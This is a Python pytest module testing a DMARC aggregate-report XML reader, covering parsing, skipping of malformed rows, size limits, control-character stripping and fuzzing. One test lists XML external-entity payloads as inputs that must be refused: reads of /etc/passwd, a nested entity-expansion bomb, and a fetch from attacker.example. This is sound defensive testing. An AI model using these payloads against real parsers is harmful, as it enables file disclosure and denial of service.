"""Aggregate reports from strangers: RFC 9990 §3.1 and §8, RFC 7489 appendix C."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gatepost.auth.dmarc import report_reader as module
from gatepost.auth.dmarc.record import Alignment, Policy
from gatepost.auth.dmarc.report import Disposition, DkimEntry, Override, OverrideReason, Row, SpfEntry
from gatepost.auth.dmarc.report_reader import BadReport, read_report
from gatepost.auth.dmarc.report_writer import written
from tests.auth.dmarc.reports import FULL

OLD = b"""<?xml version="1.0" encoding="UTF-8" ?>
<feedback>
  <report_metadata>
    <org_name>acme.example</org_name><email>noreply@acme.example</email><report_id>9391651994964116463</report_id>
    <date_range><begin>1335571200</begin><end>1335657599</end></date_range>
  </report_metadata>
  <policy_published>
    <domain>Example.com.</domain><adkim>r</adkim><aspf>s</aspf><p>none</p><sp>none</sp><pct>100</pct>
  </policy_published>
  <record>
    <row>
      <source_ip>203.0.113.7</source_ip><count>2</count>
      <policy_evaluated>
        <disposition>None</disposition><dkim>fail</dkim><spf>pass</spf>
        <reason><type>sampled_out</type><comment>a
          b</comment></reason>
        <reason><type>never heard</type></reason>
      </policy_evaluated>
    </row>
    <identifiers><header_from>example.com</header_from></identifiers>
    <auth_results>
      <dkim><domain>example.com</domain><result>fail</result><human_result></human_result></dkim>
      <spf><domain>example.com</domain><result>pass</result></spf>
      <spf><domain>helo.example.com</domain><scope>helo</scope><result>hardfail</result></spf>
    </auth_results>
  </record>
</feedback>
"""
PIECES = st.lists(
    st.sampled_from((
        b"<feedback>", b"</feedback>", b"<record>", b"</record>", b"<row>", b"</row>", b"<count>", b"1", b"</count>",
        b"<policy_published>", b"</policy_published>", b"<dkim>", b"</dkim>", b"<auth_results>", b"</auth_results>",
        b"<a/>", b"<x:a xmlns:x='y'>", b"</x:a>", b"<!DOCTYPE a>", b"&amp;", b"&x;", b"<![CDATA[", b"]]>", b"\x00",
        b"\xff",
    )),
    max_size=14,
).map(b"".join)  # fmt: skip


def changed(old, new):
    assert old in OLD
    return OLD.replace(old, new)


def test_a_report_of_rfc_7489_is_read():
    report = read_report(OLD)
    assert (report.organization, report.begin, report.end) == ("acme.example", 1335571200, 1335657599)
    published = report.published
    assert (published.domain, published.p, published.aspf) == ("example.com", Policy.NONE, Alignment.STRICT)
    assert report.rows == (
        Row(
            source="203.0.113.7",
            count=2,
            disposition=Disposition.NONE,
            dkim_aligned=False,
            spf_aligned=True,
            overrides=(Override(OverrideReason.SAMPLED_OUT, "a b"), Override(OverrideReason.OTHER)),
            header_from="example.com",
            dkim=(DkimEntry("example.com", "", "fail"),),
            spf=(SpfEntry("example.com", "pass", ""), SpfEntry("helo.example.com", "hardfail", "helo")),
        ),
    )


def test_a_report_of_rfc_9990_is_read():
    assert read_report(written(FULL)) == FULL


def test_extensions_are_passed_over_with_all_in_them():
    extended = changed(
        b"</auth_results>",
        b"</auth_results><x:row xmlns:x='urn:x'><source_ip>192.0.2.9</source_ip><count>9</count></x:row>",
    )
    assert read_report(extended) == read_report(OLD)
    unknown = changed(b"<record>", b"<extension><record><count>9</count></record></extension><record>")
    assert read_report(unknown) == read_report(OLD)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b"203.0.113.7", b"203.0.113"),
        (b"203.0.113.7", b"fe80::1%eth0"),
        (b"<count>2", b"<count>-2"),
        (b"<count>2", b"<count>" + b"9" * 5000),
        (b"<count>2", "<count>\u0662".encode()),
        (b"<disposition>None", b"<disposition>maybe"),
        (b"<source_ip>203.0.113.7</source_ip>", b""),
    ],
)
def test_a_row_that_makes_no_sense_is_counted_and_skipped(old, new):
    report = read_report(changed(old, new))
    assert (report.rows, report.skipped) == ((), 1)


@pytest.mark.parametrize(
    "document",
    [
        b"", b"text", b"<feedback>", b"<feedback/>", b"<html/>", b"<feedback></record></feedback>", b"\xff\xfe<",
        OLD[:-15], OLD + OLD, b"\x00" + OLD, changed(b"<p>none</p>", b""), changed(b"<p>none", b"<p>x"),
        changed(b"Example.com.", b""), changed(b"<begin>1335571200</begin>", b""), changed(b"<end>1335", b"<end>1335x"),
        changed(b"UTF-8", b"utf-7"), changed(b"UTF-8", b"no-such"), changed(b"Example.com.", b"a\xff"),
    ],
)  # fmt: skip
def test_what_is_no_report_is_refused(document):
    with pytest.raises(BadReport):
        read_report(document)


@pytest.mark.parametrize(
    "doctype",
    [
        b"<!DOCTYPE feedback>",
        b'<!DOCTYPE feedback SYSTEM "file:///etc/passwd">',
        b'<!DOCTYPE feedback [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
        b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker.example/"> %x;]>',
    ],
)
def test_a_document_type_is_refused_before_it_is_read(doctype):
    with pytest.raises(BadReport, match="document type"):
        read_report(changed(b"<feedback>", doctype + b"<feedback>"))


@pytest.mark.parametrize(
    ("limit", "document"),
    [
        ("DOCUMENT_LIMIT", OLD),
        ("ELEMENTS_LIMIT", changed(b"<row>", b"<x/>" * 101 + b"<row>")),
        ("DEPTH_LIMIT", changed(b"<row>", b"<x>" * 101 + b"</x>" * 101 + b"<row>")),
        ("DEPTH_LIMIT", changed(b"<row>", b"<y:x xmlns:y='z'>" + b"<x>" * 100 + b"</x>" * 100 + b"</y:x><row>")),
        ("ROWS_LIMIT", changed(b"<record>", b"<record/>" * 100 + b"<record>")),
    ],
)
def test_what_is_over_a_limit_is_refused(limit, document, monkeypatch):
    monkeypatch.setattr(module, limit, 100)
    with pytest.raises(BadReport, match="too"):
        read_report(document)


def test_texts_and_parts_over_their_limits_are_cut():
    many = changed(b"<auth_results>", b"<auth_results>" + b"<dkim><domain>a</domain></dkim>" * 500)
    assert len(read_report(many).rows[0].dkim) == module.PARTS_LIMIT
    long = changed(b"acme.example</org_name>", b"a" * 100_000 + b"</org_name>")
    assert len(read_report(long).organization) <= module.TEXT_LIMIT


def test_what_a_stranger_writes_is_shown_on_one_line_without_controls():
    report = read_report(changed(b"acme.example</org_name>", "a\u202eb\u2028c\x7f</org_name>".encode()))
    assert report.organization == "ab c"


def test_an_element_that_comes_twice_counts_once():
    assert read_report(changed(b"<count>2", b"<count>5</count><count>2")).rows[0].count == 5


@given(PIECES)
def test_any_octets_are_a_report_or_refused(pieces):
    for document in (pieces, OLD.replace(b"<row>", pieces, 1), OLD.replace(b"<domain>", pieces, 1)):
        try:
            report = read_report(document)
        except BadReport as bad:
            assert str(bad).isascii()
            continue
        assert report.published.domain and len(report.rows) <= 1
